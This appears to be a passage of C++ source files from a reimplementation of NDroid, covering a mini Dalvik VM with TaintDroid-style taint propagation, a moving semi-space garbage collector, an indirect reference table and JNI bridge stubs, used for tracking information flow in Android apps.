  /// taint label that is appended to the parameters").
  GuestAddr push_outs(u32 arg_count);
  void pop_outs(u32 arg_count);

  [[nodiscard]] GuestAddr current_fp() const { return fp_; }

  // Register slot accessors relative to an explicit frame pointer.
  [[nodiscard]] u32 reg_value(GuestAddr fp, u16 reg) const {
    return memory_.read32(fp + 8u * reg);
  }
  [[nodiscard]] Taint reg_taint(GuestAddr fp, u16 reg) const {
    return memory_.read32(fp + 8u * reg + 4);
  }
  void set_reg(GuestAddr fp, u16 reg, u32 value, Taint taint) {
    memory_.write32(fp + 8u * reg, value);
    memory_.write32(fp + 8u * reg + 4, taint);
  }
  void set_reg_value(GuestAddr fp, u16 reg, u32 value) {
    memory_.write32(fp + 8u * reg, value);
  }
  void set_reg_taint(GuestAddr fp, u16 reg, Taint taint) {
    memory_.write32(fp + 8u * reg + 4, taint);
  }

  [[nodiscard]] u32 bytes_in_use() const { return top_ - sp_; }

 private:
  mem::AddressSpace& memory_;
  GuestAddr bottom_;
  GuestAddr top_;
  GuestAddr sp_;   // grows down
  GuestAddr fp_ = 0;
};

}  // namespace ndroid::dvm
