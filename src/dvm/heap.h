// Dalvik heap: guest-backed object storage with a semi-space copying
// (moving) GC.
//
// Objects have host-side descriptors (dvm::Object) and guest payloads in the
// dalvik-heap region, which is split into two semi-spaces; every collection
// evacuates all objects into the other half, so EVERY live object's direct
// pointer changes on every GC — the behaviour that makes JNI hand out
// indirect references (paper §II-A) and forces NDroid to key Java-object
// shadow taints by indirect reference rather than by address (§V-B).
//
// Payload layouts:
//   string:   [u32 taint][u32 length][utf8 bytes][NUL]
//   array:    [u32 taint][u32 length][elements...]  (refs as direct ptrs)
//   instance: [(u32 value, u32 taint) x nfields]    (TaintDroid interleaving)
//
// The leading taint word IS TaintDroid's "taint label in the array object"
// (§II-B) stored in guest memory — so when NDroid logs "add taint 514 to new
// string object@0x412a3320" (Fig. 6) it is genuinely writing the label the
// Java-context propagation rules will read back.
#pragma once

#include <deque>
#include <functional>
#include <unordered_map>

#include "dvm/indirect_ref_table.h"
#include "dvm/object.h"
#include "mem/address_space.h"

namespace ndroid::dvm {

class Heap {
 public:
  Heap(mem::AddressSpace& memory, GuestAddr base, u32 size);

  Object* new_string(ClassObject* string_cls, std::string utf);
  Object* new_array(ClassObject* array_cls, u32 length, u32 elem_size,
                    bool refs);
  Object* new_instance(ClassObject* cls);

  /// Object whose payload currently starts at `addr`, or nullptr.
  [[nodiscard]] Object* object_at(GuestAddr addr) const;

  /// Rewrites an object's guest payload from its host-side state.
  void sync_payload(Object& obj);

  // Array element access through guest memory (values) + object taint.
  [[nodiscard]] u32 array_get(const Object& arr, u32 index) const;
  void array_set(Object& arr, u32 index, u32 value);
  [[nodiscard]] GuestAddr array_data_addr(const Object& arr) const {
    return arr.addr() + 8;
  }
  [[nodiscard]] GuestAddr string_data_addr(const Object& str) const {
    return str.addr() + 8;
  }

  /// TaintDroid object-level taint label, stored at payload offset 0 for
  /// strings/arrays. Instances carry taint on references/fields instead and
  /// always report clear here.
  [[nodiscard]] Taint object_taint(const Object& obj) const;
  void set_object_taint(Object& obj, Taint taint);
  void add_object_taint(Object& obj, Taint taint);

  /// Re-reads a string's characters from guest memory (native code may have
  /// been handed the buffer via GetStringCritical-style access).
  [[nodiscard]] std::string read_string(const Object& str) const;

  /// Copying collection: evacuates every object into the other semi-space,
  /// updating direct pointers (including refs held in ref-arrays and
  /// instance L-type fields) — and updating nothing else: stale direct
  /// pointers held elsewhere (native code!) become invalid, as on real
  /// Android. Returns the number of objects moved.
  u32 gc();

  /// Observer invoked per relocation: (object, old_addr, new_addr).
  void add_move_observer(
      std::function<void(const Object&, GuestAddr, GuestAddr)> fn) {
    move_observers_.push_back(std::move(fn));
  }

  [[nodiscard]] u64 objects_allocated() const { return objects_.size(); }
  [[nodiscard]] u32 bytes_in_use() const { return bump_ - space_base(); }
  [[nodiscard]] bool in_active_space(GuestAddr addr) const {
    return addr >= space_base() && addr < space_base() + half_size_;
  }

 private:
  GuestAddr alloc_payload(u32 size);
  void write_payload(Object& obj);
  [[nodiscard]] GuestAddr space_base() const {
    return region_start_ + (active_half_ ? half_size_ : 0);
  }

  mem::AddressSpace& memory_;
  GuestAddr region_start_;
  u32 half_size_;
  bool active_half_ = false;
  GuestAddr bump_;

  std::deque<Object> objects_;  // stable host addresses
  std::unordered_map<GuestAddr, Object*> by_addr_;
  std::vector<std::function<void(const Object&, GuestAddr, GuestAddr)>>
      move_observers_;
};

}  // namespace ndroid::dvm
