// The mini Dalvik VM ("libdvm.so").
//
// Owns the class/method registry, the object heap, the indirect reference
// table, the TaintDroid-style interpreted stack, the bytecode interpreter
// with TaintDroid's propagation rules, and — critically for this paper —
// the JNI call bridge machinery:
//
//  * dvmCallJNIMethod (JNI entry, paper Listing 2): Java -> native. A guest
//    stub at a stable libdvm address marshals interleaved (value, taint)
//    args from the DVM stack into AAPCS registers and invokes the native
//    method; NDroid hooks the stub to build SourcePolicy records (§V-B).
//  * dvmCallMethodV/A + dvmInterpret (JNI exit, Table II): native -> Java.
//    Guest stubs whose *guest-level* call chain
//    Call*Method{,V,A} -> dvmCallMethod{V,A} -> dvmInterpret produces the
//    branch events the multilevel hooking conditions T1..T6 match (Fig. 5).
//  * MAF allocation functions (Table III): dvmAllocObject,
//    dvmCreateStringFromCstr/Unicode, dvmAllocArrayByClass,
//    dvmAllocPrimitiveArray — guest stubs returning real object addresses.
//
// Method structs are materialised in guest memory so hook engines can read
// name/shorty/class/flags the way NDroid reads them out of a real libdvm.
#pragma once

#include <map>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "arm/cpu.h"
#include "dvm/heap.h"
#include "dvm/method.h"
#include "dvm/stack.h"

namespace ndroid::dvm {

/// TaintDroid behaviour toggles (all on = TaintDroid as shipped; all off =
/// vanilla Android, the overhead baseline for Fig. 10).
struct TaintPolicy {
  /// Propagate taints through DVM bytecode (TaintDroid's core).
  bool propagate_java = true;
  /// "For native methods, Taintdroid taints the returned value of a JNI
  /// function if at least one parameter is tainted" (§IV).
  bool jni_ret_union = true;
};

/// A native->Java call prepared by dvmCallMethod* and consumed by
/// dvmInterpret (its frame is already allocated so hooks can taint it).
struct PendingJavaCall {
  const Method* method = nullptr;
  GuestAddr frame = 0;
  GuestAddr result_addr = 0;  // guest JValue out-slot (0 = discard)
};

/// Guest layout of a materialised Method struct (offsets hook engines use).
struct GuestMethodLayout {
  static constexpr u32 kInsns = 0;         // native entry point
  static constexpr u32 kShorty = 4;        // char* shorty
  static constexpr u32 kName = 8;          // char* name
  static constexpr u32 kClassDesc = 12;    // char* class descriptor
  static constexpr u32 kAccessFlags = 16;
  static constexpr u32 kRegistersSize = 20;
  static constexpr u32 kInsSize = 24;
  static constexpr u32 kSize = 28;
};

class Dvm {
 public:
  Dvm(arm::Cpu& cpu, GuestAddr libdvm_base, u32 libdvm_size,
      GuestAddr heap_base, u32 heap_size, GuestAddr stack_base,
      u32 stack_size);

  Dvm(const Dvm&) = delete;
  Dvm& operator=(const Dvm&) = delete;

  // --- Class and method definition (our "dex loading") -------------------
  ClassObject* define_class(const std::string& descriptor);
  [[nodiscard]] ClassObject* find_class(std::string_view descriptor) const;
  /// jclass handle <-> ClassObject (classes are non-moving guest mirrors).
  [[nodiscard]] ClassObject* class_at(GuestAddr mirror) const;
  [[nodiscard]] GuestAddr class_mirror(const ClassObject* cls) const;

  Method* define_method(ClassObject* cls, std::string name, std::string shorty,
                        u32 access_flags, u16 registers_size,
                        std::vector<DInsn> code);
  Method* define_native(ClassObject* cls, std::string name, std::string shorty,
                        u32 access_flags, GuestAddr native_addr);
  Method* define_builtin(ClassObject* cls, std::string name,
                         std::string shorty, u32 access_flags,
                         std::function<Slot(Dvm&, std::vector<Slot>&)> fn);
  /// jmethodID (guest Method struct address) -> host Method.
  [[nodiscard]] Method* method_at(GuestAddr guest_method) const;

  /// Every registered native method, in definition order. The static
  /// pre-analysis layer lifts CFGs from exactly these JNI entry points —
  /// the same registration source dvmCallJNIMethod dispatches through.
  [[nodiscard]] std::vector<const Method*> native_methods() const;

  /// jfieldID: materialises a guest field-id struct on first use.
  GuestAddr field_id(ClassObject* cls, std::string_view name, bool is_static);
  struct FieldRef {
    ClassObject* cls = nullptr;
    const Field* field = nullptr;
    bool is_static = false;
  };
  [[nodiscard]] FieldRef decode_field_id(GuestAddr fid) const;

  // --- Components ---------------------------------------------------------
  Heap& heap() { return heap_; }
  IndirectRefTable& irt() { return irt_; }
  DvmStack& stack() { return stack_; }
  arm::Cpu& cpu() { return cpu_; }
  mem::AddressSpace& memory() { return cpu_.memory(); }
  TaintPolicy& policy() { return policy_; }

  Object* new_string(std::string utf) {
    return heap_.new_string(string_class_, std::move(utf));
  }
  [[nodiscard]] ClassObject* string_class() const { return string_class_; }

  // --- Execution -----------------------------------------------------------
  /// Calls a method from the host (app entry points, tests). Interpreted and
  /// builtin methods run directly; native methods go through the guest
  /// dvmCallJNIMethod stub so all hook surfaces fire.
  Slot call(const Method& method, std::vector<Slot> args);

  /// InterpSaveState: return value + taint of the last completed method.
  Slot& retval() { return retval_; }

  /// Pending exception (set by ThrowNew, cleared by kMoveException).
  Object* pending_exception = nullptr;

  // --- JNI-exit path (used by the JNIEnv stubs in src/jni) ----------------
  /// Address of the dvmCallMethodV or dvmCallMethodA stub.
  [[nodiscard]] GuestAddr call_method_stub(char kind) const;

  // --- Symbols (libdvm exports, for hook engines) --------------------------
  [[nodiscard]] GuestAddr sym(const std::string& name) const;
  [[nodiscard]] const std::map<std::string, GuestAddr>& symbols() const {
    return symbols_;
  }

  // --- Guest data area (strings, scratch, JValues) -------------------------
  GuestAddr data_alloc(u32 size);
  GuestAddr data_cstr(std::string_view s);

  /// Code space inside the libdvm.so region for additional guest stubs (the
  /// JNIEnv function table in src/jni assembles into this — those functions
  /// are part of libdvm on real Android). Registers `name` as a symbol.
  GuestAddr stub_alloc(const std::string& name, std::span<const u8> code);

  /// Guest address the JNI functions pass as JNIEnv* (set by jni module).
  void set_jnienv_addr(GuestAddr addr) { jnienv_addr_ = addr; }
  [[nodiscard]] GuestAddr jnienv_addr() const { return jnienv_addr_; }

  // --- Instrumentation / stats ---------------------------------------------
  /// Per-bytecode observer (used to model DroidScope's DVM-reconstruction
  /// cost and for tracing).
  void set_dvm_insn_observer(std::function<void(const Method&, const DInsn&)> fn) {
    insn_observer_ = std::move(fn);
  }
  [[nodiscard]] u64 bytecodes_executed() const { return bytecodes_executed_; }

  /// Runs the semi-space copying GC (every object moves; IRT handles stay
  /// valid, stale direct pointers do not).
  u32 run_gc() { return heap_.gc(); }

 private:
  friend class Interpreter;

  void build_stubs(GuestAddr base, u32 size);
  GuestAddr materialise_method(Method& m);
  void register_method(ClassObject* cls, std::unique_ptr<Method> m);

  /// Interprets `method` whose frame is already set up at `fp`.
  void interpret(const Method& method, GuestAddr fp);

  /// Java -> native through the guest bridge stub.
  Slot invoke_native(const Method& method, const std::vector<Slot>& args);

  // Helper bodies (C++ behind guest stub addresses).
  void helper_call_jni_method(arm::Cpu& cpu);
  void helper_call_method_prepare(arm::Cpu& cpu, char kind);
  void helper_interpret(arm::Cpu& cpu);
  void helper_call_method_finish(arm::Cpu& cpu);

  arm::Cpu& cpu_;
  Heap heap_;
  IndirectRefTable irt_;
  DvmStack stack_;
  TaintPolicy policy_;
  /// Host recursion depth of interpret(): the guest DvmStack guard alone
  /// fires too late for small frames, since each nested interpreted invoke
  /// is also a host stack frame.
  u32 interp_depth_ = 0;

  std::map<std::string, std::unique_ptr<ClassObject>> classes_;
  std::map<GuestAddr, ClassObject*> class_by_mirror_;
  std::map<const ClassObject*, GuestAddr> mirror_by_class_;
  std::map<GuestAddr, Method*> method_by_guest_;
  std::map<GuestAddr, FieldRef> field_ids_;
  std::map<std::string, GuestAddr> field_id_cache_;

  std::map<std::string, GuestAddr> symbols_;
  GuestAddr stub_bump_ = 0;
  GuestAddr stub_end_ = 0;
  GuestAddr data_bump_ = 0;
  GuestAddr data_end_ = 0;
  GuestAddr jnienv_addr_ = 0;
  GuestAddr thread_self_addr_ = 0;
  GuestAddr jvalue_scratch_ = 0;

  ClassObject* string_class_ = nullptr;

  Slot retval_{};
  std::vector<PendingJavaCall> pending_calls_;

  std::function<void(const Method&, const DInsn&)> insn_observer_;
  u64 bytecodes_executed_ = 0;
};

}  // namespace ndroid::dvm
