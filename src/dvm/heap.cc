#include "dvm/heap.h"

#include "dvm/method.h"

namespace ndroid::dvm {

u32 Object::payload_size() const {
  switch (kind_) {
    case ObjKind::kString:
      return 8 + static_cast<u32>(utf_.size()) + 1;
    case ObjKind::kArray:
      return 8 + length_ * elem_size_;
    case ObjKind::kInstance:
      return static_cast<u32>(fields_.size()) * 8;
  }
  return 0;
}

Field& ClassObject::add_instance_field(std::string name, char type) {
  ifields_.push_back(Field{std::move(name), type,
                           static_cast<u32>(ifields_.size())});
  return ifields_.back();
}

Field& ClassObject::add_static_field(std::string name, char type) {
  sfields_.push_back(Field{std::move(name), type,
                           static_cast<u32>(sfields_.size())});
  statics_.push_back(Slot{});
  return sfields_.back();
}

const Field* ClassObject::find_instance_field(std::string_view name) const {
  for (const Field& f : ifields_) {
    if (f.name == name) return &f;
  }
  return nullptr;
}

const Field* ClassObject::find_static_field(std::string_view name) const {
  for (const Field& f : sfields_) {
    if (f.name == name) return &f;
  }
  return nullptr;
}

void ClassObject::add_method(std::unique_ptr<Method> m) {
  methods_.push_back(std::move(m));
}

Method* ClassObject::find_method(std::string_view name) const {
  for (const auto& m : methods_) {
    if (m->name == name) return m.get();
  }
  return nullptr;
}

Heap::Heap(mem::AddressSpace& memory, GuestAddr base, u32 size)
    : memory_(memory),
      region_start_(base),
      half_size_(size / 2),
      bump_(base) {}

GuestAddr Heap::alloc_payload(u32 size) {
  const GuestAddr addr = bump_;
  bump_ += (size + 7) & ~7u;
  if (bump_ > space_base() + half_size_) {
    throw GuestFault("dalvik heap exhausted");
  }
  return addr;
}

void Heap::write_payload(Object& obj) {
  const GuestAddr a = obj.addr();
  switch (obj.kind()) {
    case ObjKind::kString: {
      memory_.write32(a, obj.taint());
      memory_.write32(a + 4, static_cast<u32>(obj.utf().size()));
      memory_.write_cstr(a + 8, obj.utf());
      break;
    }
    case ObjKind::kArray:
      memory_.write32(a, obj.taint());
      memory_.write32(a + 4, obj.length());
      break;
    case ObjKind::kInstance: {
      u32 off = 0;
      for (const Slot& s : obj.fields()) {
        memory_.write32(a + off, s.value);
        memory_.write32(a + off + 4, s.taint);
        off += 8;
      }
      break;
    }
  }
}

void Heap::sync_payload(Object& obj) { write_payload(obj); }

Object* Heap::new_string(ClassObject* string_cls, std::string utf) {
  objects_.emplace_back(ObjKind::kString, string_cls);
  Object& obj = objects_.back();
  obj.set_utf(std::move(utf));
  obj.set_addr(alloc_payload(obj.payload_size()));
  write_payload(obj);
  by_addr_[obj.addr()] = &obj;
  return &obj;
}

Object* Heap::new_array(ClassObject* array_cls, u32 length, u32 elem_size,
                        bool refs) {
  objects_.emplace_back(ObjKind::kArray, array_cls);
  Object& obj = objects_.back();
  obj.init_array(length, elem_size, refs);
  obj.set_addr(alloc_payload(obj.payload_size()));
  write_payload(obj);
  by_addr_[obj.addr()] = &obj;
  return &obj;
}

Object* Heap::new_instance(ClassObject* cls) {
  objects_.emplace_back(ObjKind::kInstance, cls);
  Object& obj = objects_.back();
  obj.fields().resize(cls->instance_field_count());
  obj.set_addr(alloc_payload(std::max<u32>(obj.payload_size(), 8)));
  write_payload(obj);
  by_addr_[obj.addr()] = &obj;
  return &obj;
}

Object* Heap::object_at(GuestAddr addr) const {
  auto it = by_addr_.find(addr);
  return it == by_addr_.end() ? nullptr : it->second;
}

Taint Heap::object_taint(const Object& obj) const {
  if (obj.kind() == ObjKind::kInstance) return kTaintClear;
  return memory_.read32(obj.addr());
}

void Heap::set_object_taint(Object& obj, Taint taint) {
  if (obj.kind() == ObjKind::kInstance) return;
  obj.set_taint(taint);  // host mirror, survives payload rewrites
  memory_.write32(obj.addr(), taint);
}

void Heap::add_object_taint(Object& obj, Taint taint) {
  set_object_taint(obj, object_taint(obj) | taint);
}

std::string Heap::read_string(const Object& str) const {
  const u32 len = memory_.read32(str.addr() + 4);
  std::string out;
  out.reserve(len);
  for (u32 i = 0; i < len; ++i) {
    out.push_back(static_cast<char>(memory_.read8(str.addr() + 8 + i)));
  }
  return out;
}

u32 Heap::array_get(const Object& arr, u32 index) const {
  if (index >= arr.length()) throw GuestFault("array index out of bounds");
  const GuestAddr elem = array_data_addr(arr) + index * arr.elem_size();
  switch (arr.elem_size()) {
    case 1: return memory_.read8(elem);
    case 2: return memory_.read16(elem);
    default: return memory_.read32(elem);
  }
}

void Heap::array_set(Object& arr, u32 index, u32 value) {
  if (index >= arr.length()) throw GuestFault("array index out of bounds");
  const GuestAddr elem = array_data_addr(arr) + index * arr.elem_size();
  switch (arr.elem_size()) {
    case 1: memory_.write8(elem, static_cast<u8>(value)); break;
    case 2: memory_.write16(elem, static_cast<u16>(value)); break;
    default: memory_.write32(elem, value); break;
  }
}

u32 Heap::gc() {
  // Semi-space evacuation: every object is considered live (scenario apps
  // keep all allocations reachable; the interesting effect is relocation)
  // and is copied into the other half, so every direct pointer changes.
  std::unordered_map<GuestAddr, GuestAddr> moved;

  active_half_ = !active_half_;
  GuestAddr new_bump = space_base();
  u32 moved_count = 0;
  for (Object& obj : objects_) {
    const u32 size = std::max<u32>(obj.payload_size(), 8);
    const GuestAddr target = new_bump;
    new_bump += (size + 7) & ~7u;
    if (new_bump > space_base() + half_size_) {
      throw GuestFault("dalvik heap exhausted during GC");
    }
    memory_.copy(target, obj.addr(), size);
    moved[obj.addr()] = target;
    obj.set_addr(target);
    ++moved_count;
  }
  bump_ = new_bump;

  by_addr_.clear();
  for (Object& obj : objects_) by_addr_[obj.addr()] = &obj;

  // Fix internal references: ref-array elements and instance L-fields hold
  // direct pointers.
  for (Object& obj : objects_) {
    if (obj.kind() == ObjKind::kArray && obj.elems_are_refs()) {
      for (u32 i = 0; i < obj.length(); ++i) {
        const u32 v = array_get(obj, i);
        if (auto it = moved.find(v); it != moved.end()) {
          array_set(obj, i, it->second);
        }
      }
    } else if (obj.kind() == ObjKind::kInstance) {
      bool dirty = false;
      for (Slot& s : obj.fields()) {
        if (auto it = moved.find(s.value); it != moved.end()) {
          s.value = it->second;
          dirty = true;
        }
      }
      if (dirty) write_payload(obj);
    }
  }

  for (auto& [old_addr, new_addr] : moved) {
    if (old_addr == new_addr) continue;
    if (Object* obj = object_at(new_addr)) {
      for (auto& fn : move_observers_) fn(*obj, old_addr, new_addr);
    }
  }
  return moved_count;
}

}  // namespace ndroid::dvm
