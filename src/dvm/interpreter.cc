// The bytecode interpreter, with TaintDroid's taint propagation.
//
// "TaintDroid tracks the taints of primitive type variables and object
// references according to the logic of each DVM instruction" (paper §II-B).
// Rules implemented here (TaintDroid's published policy):
//   move          t(A) = t(B)
//   const         t(A) = clear
//   binop         t(A) = t(B) | t(C)
//   aget          t(A) = t(array object) | t(index)
//   aput          t(array object) |= t(src)
//   iget/sget     t(A) = t(field slot) (| t(obj ref) for iget)
//   iput/sput     t(field slot) = t(src)
//   invoke        args' taints copied into callee frame / outs area
//   move-result   t(A) = return-value taint from InterpSaveState
#include <bit>
#include <cstdint>

#include "dvm/dvm.h"

namespace ndroid::dvm {

namespace {
float as_float(u32 v) { return std::bit_cast<float>(v); }
u32 from_float(float f) { return std::bit_cast<u32>(f); }
}  // namespace

void Dvm::interpret(const Method& method, GuestAddr fp) {
  // Dalvik's "StackOverflowError" analogue: bound host recursion as well as
  // the guest frame region (tiny frames can exhaust the host stack first).
  struct DepthGuard {
    u32& depth;
    explicit DepthGuard(u32& d) : depth(d) {
      if (++depth > 256) {
        --depth;
        throw GuestFault("DVM stack overflow (interpreter depth)");
      }
    }
    ~DepthGuard() { --depth; }
  } guard(interp_depth_);
  const bool taint_on = policy_.propagate_java;
  auto& mem = cpu_.memory();
  auto val = [&](u16 r) { return stack_.reg_value(fp, r); };
  auto tnt = [&](u16 r) {
    return taint_on ? stack_.reg_taint(fp, r) : kTaintClear;
  };
  auto set = [&](u16 r, u32 v, Taint t) {
    stack_.set_reg(fp, r, v, taint_on ? t : kTaintClear);
  };
  auto obj_of = [&](u16 r) -> Object* {
    const u32 v = val(r);
    if (v == 0) throw GuestFault("null dereference in " + method.name);
    Object* o = heap_.object_at(v);
    if (o == nullptr) {
      throw GuestFault("dangling object pointer in " + method.name);
    }
    return o;
  };

  u32 pc = 0;
  const auto& code = method.code;
  while (pc < code.size()) {
    const DInsn& insn = code[pc];
    ++bytecodes_executed_;
    if (insn_observer_) insn_observer_(method, insn);
    u32 next = pc + 1;

    switch (insn.op) {
      case DOp::kNop:
        break;
      case DOp::kMove:
        set(insn.a, val(insn.b), tnt(insn.b));
        break;
      case DOp::kMoveResult:
        set(insn.a, retval_.value, retval_.taint);
        break;
      case DOp::kReturnVoid:
        retval_ = Slot{0, kTaintClear};
        return;
      case DOp::kReturn:
        retval_ = Slot{val(insn.a), tnt(insn.a)};
        return;
      case DOp::kConst:
        set(insn.a, static_cast<u32>(insn.imm), kTaintClear);
        break;
      case DOp::kConstString: {
        Object* s = heap_.new_string(string_class_, insn.str);
        set(insn.a, s->addr(), kTaintClear);
        break;
      }
      case DOp::kNewInstance: {
        Object* o = heap_.new_instance(insn.cls);
        set(insn.a, o->addr(), kTaintClear);
        break;
      }
      case DOp::kNewArray: {
        Object* o = heap_.new_array(nullptr, val(insn.b),
                                    static_cast<u32>(insn.imm),
                                    insn.idx != 0);
        set(insn.a, o->addr(), kTaintClear);
        break;
      }
      case DOp::kArrayLength: {
        Object* arr = obj_of(insn.b);
        set(insn.a, arr->length(), tnt(insn.b));
        break;
      }
      case DOp::kAget: {
        Object* arr = obj_of(insn.b);
        const u32 v = heap_.array_get(*arr, val(insn.c));
        set(insn.a, v, heap_.object_taint(*arr) | tnt(insn.c));
        break;
      }
      case DOp::kAput: {
        Object* arr = obj_of(insn.b);
        heap_.array_set(*arr, val(insn.c), val(insn.a));
        if (taint_on) heap_.add_object_taint(*arr, tnt(insn.a));
        break;
      }
      case DOp::kIget: {
        Object* obj = obj_of(insn.b);
        const Slot& f = obj->fields().at(insn.idx);
        set(insn.a, f.value, f.taint | tnt(insn.b));
        break;
      }
      case DOp::kIput: {
        Object* obj = obj_of(insn.b);
        Slot& f = obj->fields().at(insn.idx);
        f.value = val(insn.a);
        f.taint = taint_on ? tnt(insn.a) : kTaintClear;
        heap_.sync_payload(*obj);
        break;
      }
      case DOp::kSget: {
        const Slot& f = insn.cls->statics().at(insn.idx);
        set(insn.a, f.value, f.taint);
        break;
      }
      case DOp::kSput: {
        Slot& f = insn.cls->statics().at(insn.idx);
        f.value = val(insn.a);
        f.taint = taint_on ? tnt(insn.a) : kTaintClear;
        break;
      }
      case DOp::kAdd:
      case DOp::kSub:
      case DOp::kMul:
      case DOp::kDiv:
      case DOp::kRem:
      case DOp::kAnd:
      case DOp::kOr:
      case DOp::kXor:
      case DOp::kShl:
      case DOp::kShr: {
        // Java int semantics are two's-complement wraparound: compute in
        // unsigned and reinterpret, which is well-defined on overflow.
        const u32 ub = val(insn.b);
        const u32 uc = val(insn.c);
        const i32 b = static_cast<i32>(ub);
        const i32 c = static_cast<i32>(uc);
        u32 r = 0;
        switch (insn.op) {
          case DOp::kAdd: r = ub + uc; break;
          case DOp::kSub: r = ub - uc; break;
          case DOp::kMul: r = ub * uc; break;
          case DOp::kDiv:
            if (c == 0) throw GuestFault("ArithmeticException: / by zero");
            // INT_MIN / -1 also overflows; Java defines it as INT_MIN.
            r = (b == INT32_MIN && c == -1) ? ub
                                            : static_cast<u32>(b / c);
            break;
          case DOp::kRem:
            if (c == 0) throw GuestFault("ArithmeticException: % by zero");
            r = (b == INT32_MIN && c == -1) ? 0u : static_cast<u32>(b % c);
            break;
          case DOp::kAnd: r = ub & uc; break;
          case DOp::kOr: r = ub | uc; break;
          case DOp::kXor: r = ub ^ uc; break;
          case DOp::kShl: r = ub << (uc & 31); break;
          case DOp::kShr: r = static_cast<u32>(b >> (uc & 31)); break;
          default: break;
        }
        set(insn.a, r, tnt(insn.b) | tnt(insn.c));
        break;
      }
      case DOp::kAddFloat:
      case DOp::kMulFloat:
      case DOp::kDivFloat: {
        const float b = as_float(val(insn.b));
        const float c = as_float(val(insn.c));
        float r = 0;
        switch (insn.op) {
          case DOp::kAddFloat: r = b + c; break;
          case DOp::kMulFloat: r = b * c; break;
          case DOp::kDivFloat: r = b / c; break;
          default: break;
        }
        set(insn.a, from_float(r), tnt(insn.b) | tnt(insn.c));
        break;
      }
      case DOp::kAddImm:
        set(insn.a, val(insn.b) + static_cast<u32>(insn.imm), tnt(insn.b));
        break;
      case DOp::kIfEq:
        if (val(insn.a) == val(insn.b)) next = static_cast<u32>(insn.target);
        break;
      case DOp::kIfNe:
        if (val(insn.a) != val(insn.b)) next = static_cast<u32>(insn.target);
        break;
      case DOp::kIfLt:
        if (static_cast<i32>(val(insn.a)) < static_cast<i32>(val(insn.b))) {
          next = static_cast<u32>(insn.target);
        }
        break;
      case DOp::kIfGe:
        if (static_cast<i32>(val(insn.a)) >= static_cast<i32>(val(insn.b))) {
          next = static_cast<u32>(insn.target);
        }
        break;
      case DOp::kIfEqz:
        if (val(insn.a) == 0) next = static_cast<u32>(insn.target);
        break;
      case DOp::kIfNez:
        if (val(insn.a) != 0) next = static_cast<u32>(insn.target);
        break;
      case DOp::kGoto:
        next = static_cast<u32>(insn.target);
        break;
      case DOp::kInvoke: {
        const Method* callee = insn.method;
        std::vector<Slot> args(insn.args.size());
        for (u32 i = 0; i < insn.args.size(); ++i) {
          args[i] = Slot{val(insn.args[i]), tnt(insn.args[i])};
        }
        if (args.size() != callee->arg_count()) {
          throw GuestFault("arity mismatch invoking " + callee->name);
        }
        if (callee->is_builtin()) {
          Slot ret = callee->builtin(*this, args);
          if (!taint_on) ret.taint = kTaintClear;
          retval_ = ret;
        } else if (callee->is_native()) {
          retval_ = invoke_native(*callee, args);
        } else {
          const GuestAddr callee_fp = stack_.push_frame(*callee);
          const u16 first_in =
              callee->registers_size - callee->ins_size;
          for (u32 i = 0; i < args.size(); ++i) {
            stack_.set_reg(callee_fp, static_cast<u16>(first_in + i),
                           args[i].value,
                           taint_on ? args[i].taint : kTaintClear);
          }
          interpret(*callee, callee_fp);
          stack_.pop_frame();
        }
        break;
      }
      case DOp::kMoveException: {
        Object* exc = pending_exception;
        pending_exception = nullptr;
        set(insn.a, exc ? exc->addr() : 0, kTaintClear);
        break;
      }
    }
    pc = next;
    (void)mem;
  }
  retval_ = Slot{0, kTaintClear};
}

}  // namespace ndroid::dvm
