// Indirect reference table (IRT).
//
// "Since version 4.0, Android uses indirect references in native code rather
// than direct pointers to reference objects. By doing so, when the garbage
// collector moves an object, it updates the indirect reference table with
// the object's new location" (paper §II-A). NDroid keys its Java-object
// shadow taints by indirect reference for exactly this reason (§V-B).
//
// Encoding follows Dalvik's IndirectRef: low 2 bits are the kind, the rest
// index+serial — producing opaque-looking handles like the 0xa8900025 /
// 0x5f80001d values in the paper's logs.
#pragma once

#include <vector>

#include "common/types.h"

namespace ndroid::dvm {

class Object;

using IndirectRef = u32;

enum class RefKind : u32 { kLocal = 1, kGlobal = 2 };

class IndirectRefTable {
 public:
  IndirectRef add(Object* obj, RefKind kind = RefKind::kLocal);

  /// Dalvik's dvmDecodeIndirectRef: handle -> direct object pointer.
  /// Unknown/stale handles throw.
  [[nodiscard]] Object* decode(IndirectRef ref) const;

  /// True if the handle is live in this table.
  [[nodiscard]] bool is_valid(IndirectRef ref) const;

  void remove(IndirectRef ref);

  /// Existing live handle for `obj`, or 0.
  [[nodiscard]] IndirectRef find(const Object* obj) const;

  [[nodiscard]] u32 live_count() const;

  /// All live entries (GC uses this as its root set).
  [[nodiscard]] std::vector<Object*> live_objects() const;

  // --- Local reference frames (JNI PushLocalFrame/PopLocalFrame) ----------
  /// Marks a frame boundary: local refs created after this call are
  /// released when the frame is popped.
  void push_frame();
  /// Releases local refs created since the matching push_frame. If
  /// `survivor` is a live ref created inside the frame, it is re-created in
  /// the enclosing frame and the new handle returned (0 otherwise).
  IndirectRef pop_frame(IndirectRef survivor = 0);
  [[nodiscard]] u32 frame_depth() const {
    return static_cast<u32>(frames_.size());
  }

 private:
  struct Entry {
    Object* obj = nullptr;
    u32 serial = 0;
    bool live = false;
    RefKind kind = RefKind::kLocal;
  };

  static u32 index_of(IndirectRef ref) { return (ref >> 2) & 0xFFFF; }
  static u32 serial_of(IndirectRef ref) { return (ref >> 18) & 0xFFF; }

  std::vector<Entry> entries_;
  std::vector<std::vector<u32>> frames_;  // indices created per open frame
  friend class IndirectRefTableTestPeer;
};

}  // namespace ndroid::dvm
