#include "dvm/stack.h"

#include "dvm/method.h"

namespace ndroid::dvm {

GuestAddr DvmStack::push_frame(const Method& method) {
  const u32 regs_bytes = 8u * method.registers_size;
  const u32 total = regs_bytes + kSaveAreaSize;
  if (sp_ - total < bottom_) throw GuestFault("DVM stack overflow");
  const GuestAddr prev_sp = sp_;
  sp_ -= total;
  const GuestAddr save_area = sp_;
  const GuestAddr fp = save_area + kSaveAreaSize;
  memory_.write32(save_area, fp_);  // prev frame pointer
  memory_.write32(save_area + 4, method.guest_addr);
  memory_.write32(save_area + 8, prev_sp);
  // Clear register slots (fresh frames must not inherit stale taints).
  for (u32 i = 0; i < method.registers_size; ++i) {
    memory_.write32(fp + 8 * i, 0);
    memory_.write32(fp + 8 * i + 4, 0);
  }
  fp_ = fp;
  return fp;
}

void DvmStack::pop_frame() {
  if (fp_ == 0) throw GuestFault("DVM stack underflow");
